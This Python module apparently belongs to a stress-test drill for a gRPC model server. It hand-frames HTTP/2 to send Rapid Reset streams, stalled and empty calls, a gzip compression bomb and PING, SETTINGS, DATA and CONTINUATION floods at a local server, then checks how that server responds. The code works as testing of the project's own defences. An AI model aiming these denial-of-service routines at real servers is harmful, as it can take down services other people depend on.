"""The drill's attacks that frame HTTP/2 by hand with the h2 package, below what a gRPC client lets a
caller do: streams reset at once, calls that never send or never end their message, messages compressed
to inflate far past their size, and floods of frames. A module of its own because they share raw_calls,
a hand-framed gRPC client, with one another and only the target (bench/drill_target.py) with the other
attacks.
"""

from __future__ import annotations

import contextlib
import gzip
import socket
import time
from collections import Counter

import numpy as np

from bench.drill_target import PREDICT, TIMEOUT_MS, AttackFailed, Server, expect
from serving.limits import Limits
from tfs_api.tensorflow_serving.apis import predict_pb2

GRPC_HEADERS = [
    (":method", "POST"),
    (":scheme", "http"),
    (":path", PREDICT),
    (":authority", "127.0.0.1"),
    ("content-type", "application/grpc"),
    ("te", "trailers"),
]


def rapid_reset(server: Server, image: np.ndarray) -> str:
    """gRPC streams opened and reset at once (CVE-2023-44487), as fast as one client can for 5 s."""
    import h2.config
    import h2.connection

    connection = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    sent, deadline = 0, time.monotonic() + 5
    with socket.create_connection(("127.0.0.1", server.grpc_port), timeout=30) as sock:
        connection.initiate_connection()
        sock.sendall(connection.data_to_send())
        try:
            while time.monotonic() < deadline:
                for _ in range(200):
                    stream = connection.get_next_available_stream_id()
                    connection.send_headers(stream, GRPC_HEADERS)
                    connection.reset_stream(stream)
                sock.sendall(connection.data_to_send())
                sent += 200
        except OSError:  # the server closed the connection: it may
            pass
    return f"{sent:,} gRPC streams opened and reset at once, in 5 s, from one connection"


def raw_calls(
    server: Server,
    connections: int,
    calls: int,
    within_s: float,
    ended: bool = True,
    message: bytes | None = None,
    encoding: str = "identity",
) -> Counter[bytes]:
    """`calls` gRPC Predict calls on each of `connections` connections, framed by hand: their headers,
    then `message` (a request message, marked compressed unless `encoding` is identity) if one is
    given, ending the client's side (`ended`) or never. The grpc-status of each answer that came within
    `within_s`, and AttackFailed if one did not."""
    import h2.config
    import h2.connection
    import h2.events

    headers = [*GRPC_HEADERS, ("grpc-encoding", encoding)]
    frame = (
        None
        if message is None
        else bytes([encoding != "identity"]) + len(message).to_bytes(4, "big") + message
    )
    statuses: Counter[bytes] = Counter()
    deadline = time.monotonic() + within_s
    with contextlib.ExitStack() as opened:
        clients = []
        for _ in range(connections):
            sock = opened.enter_context(socket.create_connection(("127.0.0.1", server.grpc_port), timeout=10))
            connection = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
            connection.initiate_connection()
            unsent = {}
            for _ in range(calls):
                stream = connection.get_next_available_stream_id()
                connection.send_headers(stream, headers, end_stream=ended and frame is None)
                unsent[stream] = frame or b""
            sock.sendall(connection.data_to_send())
            clients.append((sock, connection, unsent, set(unsent)))
        for sock, connection, unsent, waiting in clients:
            while waiting:
                for stream, data in list(unsent.items()):  # as much as the server's windows take
                    size = min(
                        len(data),
                        connection.local_flow_control_window(stream),
                        connection.max_outbound_frame_size,
                    )
                    if data and size:
                        connection.send_data(stream, data[:size], end_stream=ended and size == len(data))
                    unsent[stream] = data[size:]
                    if not unsent[stream]:
                        del unsent[stream]
                sock.sendall(connection.data_to_send())
                sock.settimeout(max(0.01, deadline - time.monotonic()))
                try:
                    data = sock.recv(1 << 16)
                except TimeoutError:
                    raise AttackFailed(f"{len(waiting)} calls unanswered after {within_s:g} s") from None
                if not data:
                    raise AttackFailed("the server closed the connection")
                for event in connection.receive_data(data):
                    # An error's status comes alone, in the answer's headers (gRPC's trailers-only form).
                    if isinstance(event, h2.events.ResponseReceived | h2.events.TrailersReceived):
                        status = dict(event.headers).get(b"grpc-status")
                        if status is not None:
                            statuses[status] += 1
                            waiting.discard(event.stream_id)
                            unsent.pop(event.stream_id, None)
                sock.sendall(connection.data_to_send())
    return statuses


def empty_calls(server: Server, image: np.ndarray) -> str:
    """gRPC calls that end without their request message, 200 at a time for 5 s: each must be answered
    INTERNAL at once (grpc.aio by itself left them unanswered, each holding the call until the client
    left)."""
    statuses: Counter[bytes] = Counter()
    deadline = time.monotonic() + 5
    while time.monotonic() < deadline:
        statuses += raw_calls(server, connections=1, calls=200, within_s=10)
    expect(set(statuses) == {b"13"}, f"calls without a message answered with grpc-status {dict(statuses)}")
    return f"{statuses.total():,} gRPC calls without a message, each answered INTERNAL"


def stalled_calls(server: Server, image: np.ndarray) -> str:
    """gRPC calls opened and left without a message, as many as gRPC's core holds for the server's loop
    before it sheds any (grpc.server.max_pending_requests), from 20 connections: each must be answered
    DEADLINE_EXCEEDED once the request timeout has passed. Past that many, gRPC's core cancels new
    calls at random, other clients' among them (its load shedding, not the server's answer)."""
    connections = 20
    calls = Limits().grpc_pending_calls // connections
    statuses = raw_calls(server, connections, calls, within_s=TIMEOUT_MS / 1000 + 10, ended=False)
    expect(set(statuses) == {b"4"}, f"stalled calls answered with grpc-status {dict(statuses)}")
    return (
        f"{statuses.total():,} gRPC calls opened with nothing sent: DEADLINE_EXCEEDED after {TIMEOUT_MS} ms"
    )


def compression_bomb(server: Server, image: np.ndarray) -> str:
    """20 gRPC Predicts at once, each 200 KB of gzip that inflates to 200 MB: each must be answered
    within the server's byte budget (gRPC's core alone inflated them all first: 8 GB)."""
    size = 200 << 20
    request = predict_pb2.PredictRequest()
    request.model_spec.name = "mnist"
    spec = request.SerializeToString()
    padding = b"\x9a\x06" + _varint(size)  # field 99, unknown to every reader: its bytes are skipped
    bomb = gzip.compress(spec + padding + bytes(size), 9)
    statuses = raw_calls(server, connections=1, calls=20, within_s=60, message=bomb, encoding="gzip")
    expect(set(statuses) <= {b"3", b"8"}, f"inflating requests answered with grpc-status {dict(statuses)}")
    return (
        f"20 gRPC Predicts of {len(bomb) >> 10} KB inflating to 200 MB each: {dict(sorted(statuses.items()))}"
    )


def frame_floods(server: Server, image: np.ndarray) -> str:
    """The HTTP/2 floods of 2019 (CVE-2019-9512, -9515, -9518) and 2024's CONTINUATION flood, each from
    one connection for 2 s, as fast as it can send and never reading what the server sends back: PINGs
    and SETTINGS whose acknowledgements pile up, empty DATA frames on an open call, and a header block
    continued without end. gRPC's core meets each (the drill checks the server's memory, the probe's
    latency and that it still serves); this says how each flood ended: the server closed the
    connection, stopped reading it, or read it all."""
    from hpack import Encoder
    from hyperframe.frame import ContinuationFrame, DataFrame, HeadersFrame, PingFrame, SettingsFrame

    block = Encoder().encode(GRPC_HEADERS)
    opened = HeadersFrame(1, flags=["END_HEADERS"], data=block)
    unended = HeadersFrame(1, data=block)  # no END_HEADERS: CONTINUATION frames must follow
    continued = ContinuationFrame(1)
    continued.data = Encoder().encode([("x-filler", "a" * 4000)])
    floods = {
        "PING": (b"", PingFrame(0, b"drill!!!").serialize()),
        "SETTINGS": (b"", SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 65535}).serialize()),
        "empty DATA": (opened.serialize(), DataFrame(1).serialize()),
        "CONTINUATION": (unended.serialize(), continued.serialize()),
    }
    outcomes = []
    for name, (first, frame) in floods.items():
        sent, deadline = 0, time.monotonic() + 2
        with socket.create_connection(("127.0.0.1", server.grpc_port), timeout=10) as sock:
            sock.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + SettingsFrame(0).serialize() + first)
            ended = "read to the end"
            try:
                while (left := deadline - time.monotonic()) > 0:
                    sock.settimeout(left)
                    sock.sendall(frame * 100)
                    sent += 100
            except TimeoutError:  # its buffers full of answers never read: it may stop reading
                ended = "the server not reading at the end"
            except OSError:  # or close the connection
                ended = "closed by the server"
        outcomes.append(f"{name}: {sent:,} frames, {ended}")
    return "HTTP/2 floods for 2 s each: " + "; ".join(outcomes)


def _varint(value: int) -> bytes:
    out = bytearray()
    while True:
        out.append(value & 0x7F | (0x80 if value > 0x7F else 0))
        value >>= 7
        if not value:
            return bytes(out)
